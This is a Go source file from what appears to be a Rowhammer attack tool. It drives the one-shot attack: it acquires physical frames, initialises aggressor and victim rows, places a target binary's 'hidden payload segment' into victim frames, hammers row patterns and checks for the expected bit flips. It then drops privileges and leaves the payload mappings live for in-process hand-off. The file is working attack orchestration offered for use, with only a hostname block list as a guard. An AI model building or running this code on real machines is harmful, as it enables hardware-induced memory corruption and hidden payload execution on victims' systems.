// Package engine wires the lower-level packages (frame, elfseg, hammer,
// flipcheck, meminit, hostaudit) into the three operations this engine's
// three binaries each drive: the loader's one-shot attack run (Activate),
// and the prehammer and templater sweeps (in prehammer.go and
// templater.go respectively). Configure holds the preflight steps common
// to all three.
package engine

import (
	"fmt"
	"os"
	"strconv"
	"syscall"
	"time"

	"github.com/sirupsen/logrus"

	"rowhammer/internal/config"
	"rowhammer/internal/elfseg"
	"rowhammer/internal/flipcheck"
	"rowhammer/internal/frame"
	"rowhammer/internal/hammer"
	"rowhammer/internal/hostaudit"
	"rowhammer/internal/meminit"
	"rowhammer/internal/memtypes"
	"rowhammer/internal/sysmem"
)

// ForbiddenHosts names machines this engine must never run a real attack
// on — e.g. a shared CI runner mistakenly left with a victim build. Wired
// through Configure.
var ForbiddenHosts = []string{"ci-runner", "shared-build-host"}

// Configure performs the preflight steps every binary needs before
// touching physical memory: hostname guard rail, root check, mlockall and
// logging setup.
func Configure(verbose bool) error {
	logrus.SetFormatter(&logrus.TextFormatter{ForceColors: true, FullTimestamp: true})
	if verbose {
		logrus.SetLevel(logrus.DebugLevel)
	}

	host := hostaudit.Collect()
	if hostaudit.MatchesForbidden(host.Hostname, ForbiddenHosts) {
		return fmt.Errorf("engine: refusing to run on forbidden host %q", host.Hostname)
	}
	logrus.Infof("engine: running on %q (cpu=%q, dimm=%q)", host.Hostname, host.CPUModel, host.DIMMPartNo)

	if os.Geteuid() != 0 {
		return fmt.Errorf("engine: must run as root (physical memory access requires it)")
	}

	if err := sysmem.MlockAll(); err != nil {
		return err
	}

	return nil
}

// Activate runs the loader's one-shot attack: acquire every frame the
// attack config names, initialise aggressor rows and victim frames, place
// the target binary's hidden payload segment at its declared victim
// frames, hammer every pattern, check victims for flips, then forget the
// placed frames and
// drop privileges, leaving the placed mappings live in this same process
// for the caller to hand off to the target payload in-process.
//
// Setting RH_TEST in the environment skips the hammer step itself (but
// not allocation or placement), so CI can exercise the full pipeline on
// hardware with no exploitable DRAM.
func Activate(cfg *config.AttackConfig, elfPath string, backend hammer.Backend) error {
	targets := make(map[memtypes.FrameAddr]struct{})
	for _, vf := range cfg.VictimFrames {
		for _, f := range memtypes.FramesInRow(vf.FrameAddr) {
			targets[f] = struct{}{}
		}
	}
	for _, f := range cfg.IterAggrFrames() {
		targets[f] = struct{}{}
	}

	fm, err := frame.Allocate(targets, 0, 200_000)
	if err != nil {
		return fmt.Errorf("engine: frame acquisition failed: %w", err)
	}

	if err := meminit.InitializeRows(fm, cfg.IterAggrRows()); err != nil {
		return err
	}
	if err := meminit.InitializeAttackVictims(fm, cfg.VictimFrames); err != nil {
		return err
	}

	if err := elfseg.Place(elfPath, cfg, fm); err != nil {
		return fmt.Errorf("engine: binary page placement failed: %w", err)
	}

	before, err := meminit.ReadVictimContent(fm, cfg.VictimFrames)
	if err != nil {
		return err
	}

	time.Sleep(50 * time.Millisecond)

	if os.Getenv("RH_TEST") == "" {
		if err := hammerAllPatterns(fm, cfg, backend); err != nil {
			return err
		}
	} else {
		logrus.Warn("engine: RH_TEST set, skipping the hammer step")
	}

	anyFlipped := false
	for _, vf := range cfg.VictimFrames {
		owned, ok := fm.Get(vf.FrameAddr)
		if !ok {
			continue
		}
		ok2, results := flipcheck.CheckExpected(before[vf.FrameAddr], owned.Data(), vf.VictimBits)
		anyFlipped = anyFlipped || len(results) > 0
		if ok2 {
			logrus.Infof("engine: victim frame %s flipped exactly as expected", vf.FrameAddr)
		} else {
			logrus.Warnf("engine: victim frame %s did not flip as expected", vf.FrameAddr)
		}
	}

	fm.Forget()
	return dropPrivileges()
}

func hammerAllPatterns(fm *frame.Map, cfg *config.AttackConfig, backend hammer.Backend) error {
	for key, pattern := range cfg.AggressorPatterns {
		var rows [][]uintptr
		for _, row := range pattern.Pattern {
			var vas []uintptr
			for _, f := range row.Frames {
				vas = append(vas, fm.VA(f))
			}
			rows = append(rows, vas)
		}
		logrus.Infof("engine: hammering pattern %q (%d rows, %d iterations)", key, len(rows), cfg.HammerCount)
		// AttackConfig names no filler count: the fixed-pattern attack
		// drives a single hammer loop with no inter-activation filler.
		elapsed, err := backend.Hammer(rows, 0, cfg.HammerCount)
		if err != nil {
			return fmt.Errorf("engine: hammering pattern %q: %w", key, err)
		}
		logrus.Infof("engine: pattern %q hammered in %s", key, elapsed)
	}
	return nil
}

// dropPrivileges drops back to the invoking (non-root) user recorded by
// sudo, if any, leaving the process (and every mapping fm.Forget() left
// intact) running so the caller can continue straight into the target
// payload's own logic without tearing down this address space.
func dropPrivileges() error {
	uidStr := os.Getenv("SUDO_UID")
	if uidStr == "" {
		return nil
	}
	uid, err := strconv.Atoi(uidStr)
	if err != nil {
		return fmt.Errorf("engine: parsing SUDO_UID: %w", err)
	}
	gid := uid
	if gidStr := os.Getenv("SUDO_GID"); gidStr != "" {
		if g, err := strconv.Atoi(gidStr); err == nil {
			gid = g
		}
	}
	if err := syscall.Setgid(gid); err != nil {
		return fmt.Errorf("engine: dropping to gid %d: %w", gid, err)
	}
	if err := syscall.Setuid(uid); err != nil {
		return fmt.Errorf("engine: dropping to uid %d: %w", uid, err)
	}
	logrus.Infof("engine: dropped privileges to uid=%d gid=%d", uid, gid)
	return nil
}
